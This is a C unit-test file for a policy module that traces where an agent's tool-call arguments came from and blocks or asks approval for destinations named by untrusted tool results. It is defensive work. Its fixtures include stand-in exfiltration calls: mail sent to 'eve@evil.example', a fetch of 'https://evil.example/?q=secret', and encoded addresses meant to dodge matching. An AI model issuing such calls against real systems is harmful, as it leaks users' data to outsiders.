#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/arena.h"
#include "base/limits.h"
#include "core/policy.h"
#include "core/prov_text.h"
#include "core/provenance.h"

enum { TEXT_BYTES = 4096, DRAWS = 3000 };

/* Quotes as ' for readability. */
static struct str
quoted(const char *text, char out[static TEXT_BYTES])
{
	size_t n = strlen(text);

	assert_true(n < TEXT_BYTES);
	for (size_t i = 0; i <= n; i++)
		out[i] = text[i] == '\'' ? '"' : text[i];
	return (struct str){ out, n };
}

static const struct json *
parse(const char *text, struct arena *a)
{
	char copy[TEXT_BYTES];
	struct str s = quoted(text, copy);
	struct err e = {};
	const struct json *v;

	s.p = arena_copy(a, s);
	assert_non_null(s.p);
	v = json_parse(s, NULL, a, &e, NULL);
	if (v == NULL)
		fail_msg("%s: %s", text, e.text);
	return v;
}

static struct policy *
policy_of(const char *text)
{
	static struct policy_problems problems;
	char copy[TEXT_BYTES];
	struct policy *p =
	    policy_new(quoted(text, copy), POLICY_JSON, &problems);

	if (p == NULL)
		fail_msg("%s: %s: %s", text, problems.item[0].path,
		    problems.item[0].text);
	return p;
}

static void
a_value_is_found_as_words_of_its_own(void **state)
{
	static const struct {
		const char *text, *value;
		bool held;
	} rows[] = {
		{ "mail bob@corp.example, please", "bob@corp.example", true },
		{ "Mail BOB@corp.example.", "Bob@Corp.Example", true },
		{ "is it bob@corp.example?", "bob@corp.example", true },
		{ "to 'bob@corp.example'", "bob@corp.example", true },
		{ "to \xe2\x80\x98"
		  "bob@corp.example\xe2\x80\x99",
		    "bob@corp.example", true },
		{ "bob@corp.example", "bob@corp.example", true },
		/* parts of a longer name */
		{ "to jimbob@corp.example", "bob@corp.example", false },
		{ "to bob@corp.example.org", "bob@corp.example", false },
		{ "to bob@corp.example", "corp.example", false },
		{ "see https://corp.example/a", "https://corp.example", false },
		{ "see https://corp.example@evil.example/",
		    "https://corp.example", false },
		{ "see https://corp.example:8080", "https://corp.example",
		    false },
		{ "the file a/notes.txt", "notes.txt", false },
		{ "to \xc3\xa9va@corp.example", "va@corp.example", false },
		/* behind one that does not count, one that does */
		{ "jimbob@corp.example and bob@corp.example",
		    "bob@corp.example", true },
		{ "file 13 please", "13", false }, /* too short */
		{ "Hotel  Le\tMarais\n Boutique", "le marais boutique", true },
		{ "Hotel\xc2\xa0Paris", "hotel paris", true },
		/* numbers may stand apart, words may not */
		{ "on 2026-05-20 at 10:00", "2026-05-20 10:00", true },
		{ "on 2026-05-20 at 10:00", "2026-05-20 11:00", false },
		{ "on 2026-05-20 at 9", "2026-05-20 9", false },
		{ "to Bobby from Alice", "bobby alice", false },
		{ "", "bob@corp.example", false },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		own_buf struct buf text = {}, value = {};

		prov_fold(&text, str_of(rows[i].text));
		prov_fold(&value, str_of(rows[i].value));
		if (prov_holds(buf_str(&text), buf_str(&value)) != rows[i].held)
			fail_msg("%s in %s", rows[i].value, rows[i].text);
	}
}

static void
what_is_encoded_is_read(void **state)
{
	static const struct {
		const char *text, *plain; /* NULL: there is nothing to read */
	} rows[] = {
		{ "bob%40corp.example", "bob@corp.example" },
		{ "bob&#64;corp&#x2e;example", "bob@corp.example" },
		{ "a &lt;b&gt; &amp; &quot;c&quot;", "a <b> & \"c\"" },
		{ "Ym9iQGNvcnAuZXhhbXBsZQ==", "bob@corp.example" },
		{ "Ym9iQGNvcnAuZXhhbXBsZQ", "bob@corp.example" },
		{ "bob@corp.example", NULL },
		{ "100% sure & %zz &#1; &#999; &x;", NULL },
		{ "%4", NULL },
		{ "&#6", NULL },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		own_buf struct buf out = {};
		bool any = prov_decode(&out, str_of(rows[i].text));

		assert_int_equal(any, rows[i].plain != NULL);
		if (rows[i].plain != NULL)
			assert_string_equal(buf_c(&out), rows[i].plain);
		else
			assert_int_equal(out.n, 0);
	}
}

static uint64_t seed;

static uint32_t
draw(uint32_t below)
{
	seed = seed * UINT64_C(6364136223846793005) + 1442695040888963407;
	return (uint32_t)(seed >> 33) % below;
}

static uint32_t
longest_slowly(struct str text, struct str value)
{
	uint32_t best = 0;

	for (size_t i = 0; i < text.n; i++) {
		for (size_t k = 0; k < value.n; k++) {
			uint32_t n = 0;

			while (i + n < text.n && k + n < value.n &&
			    text.p[i + n] == value.p[k + n])
				n++;
			best = n > best ? n : best;
		}
	}
	return best >= PROV_MIN_BYTES ? best : 0;
}

static void
the_longest_row_is_that_of_a_plain_search(void **state)
{
	char a[64], b[24];

	(void)state;
	seed = 7;
	for (int i = 0; i < DRAWS; i++) {
		struct str text = { a, draw(sizeof(a)) };
		struct str value = { b, draw(sizeof(b)) };
		uint64_t steps = PROV_STEPS_MAX;
		uint32_t at = UINT32_MAX, n;

		for (size_t k = 0; k < text.n; k++)
			a[k] = (char)('a' + draw(3));
		for (size_t k = 0; k < value.n; k++)
			b[k] = (char)('a' + draw(3));
		n = prov_longest(text, value, &at, &steps);
		assert_int_equal(n, longest_slowly(text, value));
		if (n > 0)
			assert_non_null(memmem(b, value.n, a + at, n));
	}
}

static void
a_search_ends_when_its_steps_are_used_up(void **state)
{
	static char text[PROV_TEXT_BYTES], value[PROV_VALUE_BYTES];
	uint64_t steps = PROV_STEPS_MAX;
	uint32_t at;

	(void)state;
	memset(text, 'a', sizeof(text));
	memset(value, 'a', sizeof(value));
	value[sizeof(value) - 1] = 'b';
	(void)prov_longest((struct str){ text, sizeof(text) },
	    (struct str){ value, sizeof(value) }, &at, &steps);
	assert_int_equal(steps, 0);
	assert_false(prov_holds((struct str){ text, sizeof(text) },
	    (struct str){ value, sizeof(value) }));
}

static const char house[] =
    "{'policy':1,'workflow':'w','stage':5,'tools':{"
    "'find':{'risk':'read','trusted_fields':['$.rows[*].id']},"
    "'fetch':{'risk':'read','leaves':true},"
    "'send':{'risk':'external_write','mode':'allow',"
    "'destination':['$.to','$.copy[*].address']},"
    "'wipe':{'risk':'destructive','mode':'allow','destination':['$.id'],"
    "'untrusted_destination':'block'}}}";

static void
assert_origins(const struct prov *p, const struct policy *policy,
    const char *tool, const char *args, const char *expected)
{
	own_arena struct arena a = {};
	own_buf struct buf out = {};
	static struct prov_args got;
	char want[TEXT_BYTES];

	prov_look(
	    p, policy_tool_find(policy, str_of(tool)), parse(args, &a), &got);
	prov_write(&out, &got);
	assert_string_equal(buf_c(&out), quoted(expected, want).p);
}

static void
each_argument_is_located(void **state)
{
	own_arena struct arena a = {};
	struct policy *policy = policy_of(house);
	const struct policy_tool *find = policy_tool_find(policy, STR("find"));
	struct prov *p = prov_new();

	(void)state;
	prov_user(p, STR("Send the Report to bob@corp.example"));
	prov_result(p, 1, find,
	    parse("{'rows':[{'id':'R-7','by':'eve@evil.example'}]}", &a), true);
	prov_result(p, 2, find,
	    parse("{'rows':[{'id':'R-8'},{'id':'R-9'}]}", &a), true);
	prov_result(p, 3, find, parse("{'rows':[{'id':1234}]}", &a), false);
	prov_result(p, 4, find,
	    parse("{'rows':[{'id':'no word of an enumeration'}]}", &a), true);

	assert_origins(p, policy, "send",
	    "{'to':'Bob@corp.example','text':'from eve@evil.example!'}",
	    "[{'bytes':16,'destination':true,'found':16,'origin':'user',"
	    "'path':'$.to','trusted':true},{'bytes':22,'destination':false,"
	    "'found':16,'origin':'tool:1','path':'$.text','trusted':false}]");
	assert_origins(p, policy, "send", "{'to':'eve%40evil.example'}",
	    "[{'bytes':18,'destination':true,'found':16,'origin':'tool:1',"
	    "'path':'$.to','trusted':false}]");
	assert_origins(p, policy, "send", "{'to':'carol@other.test'}",
	    "[{'bytes':16,'destination':true,'found':0,'origin':"
	    "'generated','path':'$.to','trusted':false}]");
	/* the only one of its result, one of two, and one that a stranger's
	 * call was answered with */
	assert_origins(p, policy, "wipe", "{'id':'R-7'}",
	    "[{'bytes':3,'destination':true,'found':3,'origin':'field:1',"
	    "'path':'$.id','trusted':true}]");
	assert_origins(p, policy, "wipe", "{'id':'R-8'}",
	    "[{'bytes':3,'destination':true,'found':3,'origin':'field:2',"
	    "'path':'$.id','trusted':false}]");
	assert_origins(p, policy, "wipe", "{'id':1234}",
	    "[{'bytes':4,'destination':true,'found':4,'origin':'field:3',"
	    "'path':'$.id','trusted':false}]");
	assert_origins(p, policy, "wipe", "{'id':'no word of an enumeration'}",
	    "[{'bytes':25,'destination':true,'found':25,'origin':'tool:4',"
	    "'path':'$.id','trusted':false}]");
	/* an id is told from another by the case of its letters */
	assert_origins(p, policy, "wipe", "{'id':'r-7'}",
	    "[{'bytes':3,'destination':true,'found':0,'origin':"
	    "'generated','path':'$.id','trusted':false}]");
	prov_free(p);
	policy_free(policy);
}

static void
all_that_lies_in_a_destination_is_one(void **state)
{
	static const struct {
		const char *tool, *args;
		bool astray, known;
	} rows[] = {
		{ "send", "{'to':'bob@corp.example'}", false, true },
		{ "send", "{'to':['bob@corp.example','eve@evil.example']}",
		    true, false },
		{ "send",
		    "{'to':{'bob@corp.example':{'x':'eve@evil.example'"
		    "}}}",
		    true, false },
		/* names of members lead somewhere, too */
		{ "send", "{'to':{'eve@evil.example':true}}", true, false },
		{ "send", "{'to':{'bob@corp.example':true}}", false, true },
		{ "send", "{'copy':[{'address':'eve@evil.example'}]}", true,
		    false },
		{ "send", "{'copy':[{'name':'eve@evil.example'}]}", false,
		    false },
		/* without a destination every argument must be known */
		{ "send", "{'text':'bob@corp.example'}", false, true },
		{ "send", "{'text':'bob@corp.example','n':1}", false, false },
		{ "send", "{'text':'bob@corp.example','to':''}", false, true },
		{ "send", "{}", false, false },
		{ "send", "{'to':'bob@corp.example','text':'new'}", false,
		    true },
		/* what leaves by its arguments has no others */
		{ "fetch", "{'query':'about bob'}", true, false },
		{ "fetch", "{'query':'bob@corp.example'}", false, true },
	};
	own_arena struct arena a = {};
	struct policy *policy = policy_of(house);
	struct prov *p = prov_new();
	static struct prov_args got;

	(void)state;
	prov_user(p, STR("Send it to bob@corp.example."));
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		prov_look(p, policy_tool_find(policy, str_of(rows[i].tool)),
		    parse(rows[i].args, &a), &got);
		if (got.astray != rows[i].astray || got.known != rows[i].known)
			fail_msg(
			    "%s: %d %d", rows[i].args, got.astray, got.known);
	}
	prov_free(p);
	policy_free(policy);
}

static void
what_is_over_a_limit_is_not_known(void **state)
{
	own_arena struct arena a = {};
	own_buf struct buf args = {}, user = {};
	struct policy *policy = policy_of(house);
	const struct policy_tool *send = policy_tool_find(policy, STR("send"));
	struct prov *p = prov_new();
	static struct prov_args got;
	struct err e = {};

	(void)state;
	/* more destinations than are looked for: the last is a stranger's */
	prov_user(p, STR("to bob@corp.example"));
	buf_add_c(&args, "{\"to\":[");
	for (int i = 0; i < PROV_ARGS_MAX; i++)
		buf_add_c(&args, "\"bob@corp.example\",");
	buf_add_c(&args, "\"eve@evil.example\"]}");
	prov_look(
	    p, send, json_parse(buf_str(&args), NULL, &a, &e, NULL), &got);
	assert_true(got.full && got.astray && !got.known);
	assert_int_equal(got.n, PROV_ARGS_MAX);
	assert_int_equal(got.first_astray, PROV_ARGS_MAX);

	/* a value that is longer than any that is looked for */
	for (int i = 0; i < PROV_VALUE_BYTES + 1; i++)
		buf_add_byte(&user, 'x');
	prov_user(p, buf_str(&user));
	buf_reset(&args);
	buf_printf(&args, "{\"to\":\"%s\"}", buf_c(&user));
	prov_look(
	    p, send, json_parse(buf_str(&args), NULL, &a, &e, NULL), &got);
	assert_int_equal(got.arg[0].origin, PROV_UNREAD);
	assert_true(got.astray && !got.known);

	/* a text of the user that is over the limit says nothing */
	while (user.n <= PROV_USER_BYTES)
		buf_add_c(&user, "xxxxxxxx");
	buf_add_c(&user, " bob@corp.example");
	prov_free(p);
	p = prov_new();
	prov_user(p, buf_str(&user));
	prov_look(p, send, parse("{'to':'bob@corp.example'}", &a), &got);
	assert_true(got.astray);

	/* results without end: no more is kept than is allowed */
	for (uint32_t i = 1; i < 2 * PROV_FIELDS_MAX; i++) {
		char text[64];

		(void)snprintf(
		    text, sizeof(text), "{'rows':[{'id':'R-%u'}]}", i);
		arena_reset(&a);
		prov_result(p, i, policy_tool_find(policy, STR("find")),
		    parse(text, &a), true);
	}
	prov_look(p, policy_tool_find(policy, STR("wipe")),
	    parse("{'id':'R-2000'}", &a), &got);
	assert_true(got.astray);
	prov_free(p);
	policy_free(policy);
}

static void
a_long_path_is_cut(void **state)
{
	own_arena struct arena a = {};
	own_buf struct buf args = {};
	static struct prov_args got;
	struct err e = {};

	(void)state;
	buf_add_c(&args, "{\"a\":{\"");
	for (int i = 0; i < PROV_PATH_BYTES; i++)
		buf_add_c(&args, "\xc3\xa9");
	buf_add_c(&args, "\":[1,{\"b\":2}]},\"c\":3}");
	prov_look(
	    NULL, NULL, json_parse(buf_str(&args), NULL, &a, &e, NULL), &got);
	assert_int_equal(got.n, 3);
	for (int i = 0; i < 2; i++) {
		struct str path = str_of(got.arg[i].path);

		assert_true(path.n < PROV_PATH_BYTES);
		assert_true(str_ends(path, STR("\xc3\xa9...")));
	}
	assert_string_equal(got.arg[2].path, "$.c");
}

static enum verdict_kind
decide(const struct policy *p, const char *tool, const char *args,
    const char *label, const struct prov *prov, struct verdict *v)
{
	own_arena struct arena a = {};
	struct labels labels = {};
	struct policy_call call = { str_of(tool), parse(args, &a), &labels, 0,
		prov };

	if (label != NULL)
		labels_add(&labels, str_of(label));
	policy_decide(p, &call, v);
	return v->kind;
}

static void
a_destination_from_a_stranger_is_asked_about_or_blocked(void **state)
{
	static const struct {
		const char *tool, *args, *label;
		enum verdict_kind kind;
	} rows[] = {
		{ "send", "{'to':'bob@corp.example'}", "untrusted:x",
		    VERDICT_ALLOW },
		{ "send", "{'to':'eve@evil.example'}", "untrusted:x",
		    VERDICT_APPROVE },
		{ "send", "{'to':'eve@evil.example'}", "untrusted",
		    VERDICT_APPROVE },
		/* nothing has been read that could have named it */
		{ "send", "{'to':'eve@evil.example'}", NULL, VERDICT_ALLOW },
		{ "send", "{'to':'eve@evil.example'}", "pii", VERDICT_ALLOW },
		{ "send", "{'text':'hello'}", "untrusted:x", VERDICT_ALLOW },
		{ "wipe", "{'id':'R-1'}", "untrusted:x", VERDICT_BLOCK },
		{ "wipe", "{'id':'R-1'}", NULL, VERDICT_ALLOW },
		/* a read that leaves the house is no other */
		{ "fetch", "{'url':'https://evil.example/?q=secret'}",
		    "untrusted:x", VERDICT_APPROVE },
		{ "find", "{'q':'eve@evil.example'}", "untrusted:x",
		    VERDICT_ALLOW },
	};
	struct policy *policy = policy_of(house);
	struct prov *p = prov_new();
	static struct verdict v;

	(void)state;
	prov_user(p, STR("mail to bob@corp.example"));
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		if (decide(policy, rows[i].tool, rows[i].args, rows[i].label, p,
			&v) != rows[i].kind)
			fail_msg("%s %s: %s", rows[i].tool, rows[i].args,
			    verdict_name(v.kind));
		/* Without anything to go by nothing is known. */
		(void)decide(policy, rows[i].tool, rows[i].args, rows[i].label,
		    NULL, &v);
		assert_true(v.kind >= rows[i].kind);
	}
	(void)decide(
	    policy, "send", "{'to':'eve@evil.example'}", "untrusted:x", p, &v);
	assert_string_equal(v.code, "untrusted_destination");
	assert_string_equal(v.rule, "tools.send.destination");
	assert_string_equal(v.reasons[0],
	    "the destination $.to comes from nowhere that is known, which is "
	    "not known to be the user's");
	prov_free(p);
	policy_free(policy);
}

/* A policy of chance: the same for the same seed, but for what is said. */
struct kinds {
	bool destination; /* the rows name destinations */
	bool except; /* flow rules leave known calls out */
	bool flow; /* those that could, are there */
	bool backwards; /* lists and members in the other order */
};

static struct policy *
chance_policy(uint64_t from, const struct kinds *k)
{
	static const char *const modes[] = { "allow", "draft", "simulate",
		"approve", "block" };
	static const char *const risks[] = { "read", "draft", "internal_write",
		"external_write", "destructive" };
	char flow[4][192], text[2048], when[3][128];
	const char *destination;
	int n = 0;

	seed = from;
	for (int i = 0; i < 4; i++) {
		const char *label = draw(2) ? "untrusted:*" : "pii";
		const char *risk = risks[draw(5)], *then = modes[1 + draw(4)];
		bool known = draw(2);

		flow[i][0] = '\0';
		if (known && !k->flow)
			continue;
		(void)snprintf(flow[i], sizeof(flow[i]),
		    "{'id':'f%d','if_labels':['%s'],'risk_at_least':'%s',"
		    "'then':'%s'%s}",
		    i, label, risk, then,
		    known && k->except ? ",'except':'known_destination'" : "");
	}
	for (int i = 0; i < 3; i++)
		(void)snprintf(when[i], sizeof(when[i]),
		    "{'if':'size(args.to) > %u','then':'%s'}", draw(30),
		    modes[3 + draw(2)]);
	destination = draw(2) ? "approve" : "block";
	n = snprintf(text, sizeof(text),
	    "{'policy':1,'workflow':'w','stage':5,'tools':{'t':{'risk':'%s',"
	    "'mode':'%s'%s%s%s,'when':[",
	    risks[draw(5)], modes[draw(3)],
	    k->destination ? ",'destination':['$.to'],"
			     "'untrusted_destination':'"
			   : "",
	    k->destination ? destination : "", k->destination ? "'" : "");
	for (int i = 0; i < 3; i++)
		n += snprintf(text + n, sizeof(text) - (size_t)n, "%s%s",
		    i > 0 ? "," : "", when[k->backwards ? 2 - i : i]);
	n += snprintf(text + n, sizeof(text) - (size_t)n, "]}},'flow':[");
	for (int i = 0, any = 0; i < 4; i++) {
		const char *one = flow[k->backwards ? 3 - i : i];

		if (one[0] == '\0')
			continue;
		n += snprintf(text + n, sizeof(text) - (size_t)n, "%s%s",
		    any++ > 0 ? "," : "", one);
	}
	(void)snprintf(text + n, sizeof(text) - (size_t)n, "]}");
	return policy_of(text);
}

static enum verdict_kind
chance_verdict(uint64_t from, const struct kinds *k, const struct prov *prov)
{
	static const char *const calls[] = { "{'to':'bob@corp.example'}",
		"{'to':'eve@evil.example'}", "{'to':'','x':'bob@corp.example'}",
		"{'to':['bob@corp.example','eve@evil.example']}" };
	static const char *const labels[] = { NULL, "untrusted:t", "pii" };
	static struct verdict v;
	struct policy *p = chance_policy(from, k);
	enum verdict_kind kind =
	    decide(p, "t", calls[from % 4], labels[from / 4 % 3], prov, &v);

	policy_free(p);
	return kind;
}

static void
provenance_loosens_nothing_that_the_policy_does_not_say(void **state)
{
	static const struct kinds none = { .flow = true },
				  named = { .flow = true, .destination = true },
				  spared = { .flow = true,
					  .destination = true,
					  .except = true },
				  without = { .destination = true };
	struct prov *prov = prov_new();
	int looser = 0, tighter = 0;

	(void)state;
	prov_user(prov, STR("Mail bob@corp.example."));
	for (uint64_t i = 0; i < DRAWS; i++) {
		enum verdict_kind plain = chance_verdict(i, &none, prov);
		enum verdict_kind with = chance_verdict(i, &named, prov);
		enum verdict_kind blind = chance_verdict(i, &named, NULL);
		enum verdict_kind except = chance_verdict(i, &spared, prov);

		/* Naming destinations only restricts, and knowing them takes
		 * back no more than that. */
		assert_true(plain <= with && with <= blind);
		/* An exception is at most as if its rule were not there. */
		assert_true(chance_verdict(i, &without, prov) <= except);
		assert_true(except <= with);
		/* And nothing at all for a call that is not known. */
		assert_int_equal(chance_verdict(i, &spared, NULL), blind);
		looser += except < with;
		tighter += with > plain;
	}
	assert_true(looser > DRAWS / 100 && tighter > DRAWS / 100);
	prov_free(prov);
}

static void
the_order_of_rules_does_not_matter(void **state)
{
	struct prov *prov = prov_new();

	(void)state;
	prov_user(prov, STR("Mail bob@corp.example."));
	for (uint64_t i = 0; i < DRAWS; i++) {
		struct kinds k = {
			.flow = true, .destination = true, .except = true
		};
		enum verdict_kind forwards = chance_verdict(i, &k, prov);

		k.backwards = true;
		assert_int_equal(chance_verdict(i, &k, prov), forwards);
	}
	prov_free(prov);
}

static void
members_that_say_nothing_are_refused(void **state)
{
	static const struct {
		const char *tool, *why;
	} rows[] = {
		{ "'destination':[]", "is empty; name the arguments" },
		{ "'destination':['to']", "must be a path" },
		{ "'untrusted_destination':'block'",
		    "the tool names no `destination`" },
		{ "'destination':['$.to'],'untrusted_destination':'allow'",
		    "must be approve or block" },
		{ "'leaves':1", "must be true or false" },
	};
	static struct policy_problems problems;

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		char text[512], copy[TEXT_BYTES];

		(void)snprintf(text, sizeof(text),
		    "{'policy':1,'workflow':'w','tools':{'t':{'risk':'read',"
		    "%s}}}",
		    rows[i].tool);
		assert_null(
		    policy_new(quoted(text, copy), POLICY_JSON, &problems));
		if (strstr(problems.item[0].text, rows[i].why) == NULL)
			fail_msg("%s\nis not in\n%s", rows[i].why,
			    problems.item[0].text);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_value_is_found_as_words_of_its_own),
		cmocka_unit_test(what_is_encoded_is_read),
		cmocka_unit_test(the_longest_row_is_that_of_a_plain_search),
		cmocka_unit_test(a_search_ends_when_its_steps_are_used_up),
		cmocka_unit_test(each_argument_is_located),
		cmocka_unit_test(all_that_lies_in_a_destination_is_one),
		cmocka_unit_test(what_is_over_a_limit_is_not_known),
		cmocka_unit_test(a_long_path_is_cut),
		cmocka_unit_test(
		    a_destination_from_a_stranger_is_asked_about_or_blocked),
		cmocka_unit_test(
		    provenance_loosens_nothing_that_the_policy_does_not_say),
		cmocka_unit_test(the_order_of_rules_does_not_matter),
		cmocka_unit_test(members_that_say_nothing_are_refused),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
